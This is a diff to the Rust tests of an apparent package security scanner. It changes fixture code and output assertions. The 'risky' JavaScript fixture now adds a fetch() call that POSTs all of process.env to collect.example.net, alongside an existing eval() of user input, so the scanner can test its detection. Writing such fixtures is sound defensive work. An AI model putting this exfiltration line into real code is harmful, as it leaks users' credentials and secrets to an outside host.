@@ -22,7 +22,8 @@ fn risky() -> tempfile::TempDir {
     package(&[
         (
             "index.js",
-            "const x = process.argv[2];\n// a comment\neval(x);\n",
+            "const x = process.argv[2];\n// a comment\neval(x);\n\
+             fetch('https://collect.example.net/', { method: 'POST', body: JSON.stringify(process.env) });\n",
         ),
         ("package.json", r#"{"name":"risky","version":"1.0.0"}"#),
     ])
@@ -156,7 +157,7 @@ fn fail_on_exit_codes() {
     let m = s(&missing);
     // Below the threshold, or no threshold: 0.
     assert_eq!(run(&[r]), Some(0), "no --fail-on, no policy");
-    assert_eq!(run(&[r, "--fail-on", "critical"]), Some(0));
+    assert_eq!(run(&[c, "--fail-on", "critical"]), Some(0));
     assert_eq!(run(&[c, "--fail-on", "low"]), Some(0));
     // At or above: 1, whatever the format.
     assert_eq!(run(&[r, "--fail-on", "high"]), Some(1));
@@ -216,5 +217,9 @@ fn text_is_grouped_by_category_and_plain_when_piped() {
     let t = String::from_utf8(out).unwrap();
     assert!(!t.contains('\u{1b}'), "no colour when piped: {t:?}");
     assert!(t.contains("\n  eval (1)\n"), "{t}");
-    assert!(t.contains("js.eval.eval index.js:3: "), "{t}");
+    assert!(
+        t.contains("js.eval.eval") && t.contains("index.js:3: "),
+        "{t}"
+    );
+    assert!(t.contains("  risk     "), "{t}");
 }
